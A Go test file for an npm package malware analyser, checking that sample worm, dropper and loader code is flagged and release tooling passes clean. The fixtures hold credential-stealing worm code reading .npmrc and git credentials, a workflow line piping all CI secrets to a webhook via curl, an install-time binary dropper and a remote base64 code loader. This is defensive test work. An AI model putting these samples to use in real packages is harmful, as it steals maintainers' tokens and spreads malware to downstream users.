package analyze

import (
	"context"
	"strings"
	"testing"
)

// Worm, dropper and loader shapes written for these tests (made-up names,
// reserved domains); none of it is real malware. Each must reach its
// combination and verdict, and release tooling written in the style of
// np, semantic-release, lerna and @octokit must stay clean.
func TestWormAndPayloadCombinations(t *testing.T) {
	cases := []struct {
		name    string
		files   map[string]string
		combo   string
		verdict Verdict
	}{
		{"propagation with token theft", map[string]string{
			"lib/sync.js": "const fs = require('fs'), os = require('os'), {execSync} = require('child_process');\n" +
				"const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8');\n" +
				"const list = await (await fetch(`https://registry.npmjs.org/-/v1/search?text=maintainer:${user}&size=250`)).json();\n" +
				"for (const o of list.objects) execSync('npm publish ' + o.package.name);\n",
		}, "worm-with-secrets", Malicious},
		{"postinstall worm", map[string]string{
			"package.json": manifestJSON("helper", map[string]string{"postinstall": "node bundle.js"}),
			"bundle.js": "const fs = require('fs'), {execSync} = require('child_process');\n" +
				"const pkg = JSON.parse(fs.readFileSync(dir + '/package.json'));\npkg.scripts.postinstall = 'node bundle.js';\n" +
				"fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg)); execSync('npm publish', {cwd: dir});\n",
		}, "install-time-worm", Malicious},
		{"secrets workflow to a webhook", map[string]string{
			"lib/ci.js": "const fs = require('fs');\nfs.writeFileSync('.github/workflows/x.yml', " +
				"'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://webhook.site/00000000-test\\n');\n",
		}, "worm-exfiltration", Malicious},
		{"dropped binary at install", map[string]string{
			"package.json":   manifestJSON("color-utils", map[string]string{"postinstall": "node setup.js"}),
			"setup.js":       "const {spawn} = require('child_process'); spawn(__dirname + '/lib/svc-helper', [], {detached: true, stdio: 'ignore'}).unref();\n",
			"lib/svc-helper": "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		}, "install-time-binary", Malicious},
		{"remote stage with decoded source", map[string]string{
			"index.js": "const https = require('https'), vm = require('vm');\n" +
				"https.get('https://cdn.example.net/s.txt', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => vm.runInThisContext(Buffer.from(s, 'base64').toString())); });\n",
		}, "remote-code-loader", Malicious},
		// Release tooling: publishing and the GitHub API from CLI code, not
		// at install time, without secrets harvesting.
		{"np-style publisher", map[string]string{
			"package.json": manifestJSON("publisher-cli", nil),
			"source/npm.js": "const execa = require('execa'); const {execSync} = require('child_process');\n" +
				"exports.username = () => execSync('npm whoami').toString().trim();\n" +
				"exports.publish = (tag) => execSync('npm publish --tag ' + tag);\n" +
				"exports.token = () => process.env.NPM_TOKEN;\n",
			"source/version.js": "const fs = require('fs'); module.exports = (pkg, v) => { pkg.version = v; fs.writeFileSync(require('path').join(process.cwd(), 'package.json'), JSON.stringify(pkg, null, 2)); };\n",
			"source/github.js":  "module.exports = (o) => fetch('https://api.github.com/user/repos', {method: 'POST', headers: {authorization: 'token ' + o.token}, body: JSON.stringify({name: o.name})});\n",
		}, "", Clean},
		{"octokit-style route table", map[string]string{
			"dist/endpoints.js": `module.exports = {actions: {createRegistrationTokenForRepo: ["POST /repos/{owner}/{repo}/actions/runners/registration-token"], listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"]}, repos: {createForAuthenticatedUser: ["POST /user/repos"]}};`,
		}, "", Clean},
		{"workflow generator", map[string]string{
			"generators/ci.js": "const fs = require('fs'); module.exports = (root, t) => fs.writeFileSync(root + '/.github/workflows/ci.yml', t.replace('TOKEN', '${{ secrets.NPM_TOKEN }}'));\n",
		}, "", Clean},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := analyzeFiles(t, c.files)
			found := c.combo == ""
			for _, reason := range r.Reasons {
				found = found || reason.Source == "combination "+c.combo
			}
			if !found || r.Verdict != c.verdict {
				t.Errorf("verdict %s score %d, want %s with %q; reasons %+v", r.Verdict, r.Score, c.verdict, c.combo, r.Reasons)
			}
		})
	}
}

// The registry manifest reaches the manifest-confusion rule through
// Package.RegistryManifest.
func TestRegistryManifestThreaded(t *testing.T) {
	p := pkg(map[string]string{"package.json": manifestJSON("widget", map[string]string{"postinstall": "node x.js"}), "x.js": "module.exports = 1"})
	p.RegistryManifest = []byte(`{"name":"widget","version":"1.0.0","_id":"widget@1.0.0","dist":{"tarball":"https://registry.npmjs.org/widget/-/widget-1.0.0.tgz"}}`)
	r, err := Analyze(context.Background(), p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var msg string
	for _, f := range r.Findings {
		if f.Rule == "VGL-A083" {
			msg = f.Message
		}
	}
	if !strings.Contains(msg, "postinstall") || r.Verdict == Clean {
		t.Errorf("manifest confusion not reported: verdict %s, findings %+v", r.Verdict, r.Findings)
	}
	p.RegistryManifest = nil
	r, _ = Analyze(context.Background(), p, Options{})
	for _, f := range r.Findings {
		if f.Rule == "VGL-A083" {
			t.Errorf("reported without a registry manifest: %+v", f)
		}
	}
}
